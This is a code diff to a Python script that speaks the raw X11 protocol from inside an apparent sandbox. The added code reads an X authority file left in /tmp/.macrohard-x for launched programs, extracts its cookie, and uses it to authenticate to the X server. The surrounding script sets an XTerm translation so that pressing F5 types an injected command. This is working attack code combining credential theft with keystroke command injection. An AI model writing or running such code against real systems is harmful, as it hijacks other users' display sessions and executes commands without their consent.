@@ -27,12 +27,28 @@ TRANSLATIONS = 'XTerm*VT100.translations: #override <Key>F5: string("{cmd}") str
 
 # a raw X client (no Xlib in the sandbox): set a root window property, as xrdb does
 XLIB = r'''import os, socket, struct, sys, time
+def magic():  # x57: the first entry of the file launched programs are given (libXau's format): its name and data
+    try:
+        d = "/tmp/.macrohard-x"
+        raw = open(os.path.join(d, sorted(os.listdir(d))[0]), "rb").read()
+    except (OSError, IndexError):
+        return b"", b""
+    f, at = [], 2
+    for _ in range(4):
+        n = struct.unpack(">H", raw[at:at + 2])[0]
+        f.append(raw[at + 2:at + 2 + n])
+        at += 2 + n
+    return f[2], f[3]
+def hello():
+    name, data = magic()
+    return (b"l\0" + struct.pack("<HHHH2x", 11, 0, len(name), len(data)) + name + b"\0" * (-len(name) % 4) + data
+            + b"\0" * (-len(data) % 4))
 class Sock(socket.socket):
     pass
 def conn():
     n = os.environ["DISPLAY"].split(":")[1].split(".")[0]
     s = Sock(socket.AF_UNIX); s.connect("/tmp/.X11-unix/X" + n)
-    s.sendall(b"l\0" + struct.pack("<HHHH", 11, 0, 0, 0) + b"\0\0")
+    s.sendall(hello())
     head = s.recv(8, socket.MSG_WAITALL); more = s.recv(struct.unpack("<H", head[6:8])[0] * 4, socket.MSG_WAITALL)
     vlen, nfmt = struct.unpack("<H", more[16:18])[0], more[21]
     root = struct.unpack("<I", more[32 + (vlen + 3) // 4 * 4 + 8 * nfmt:][:4])[0]
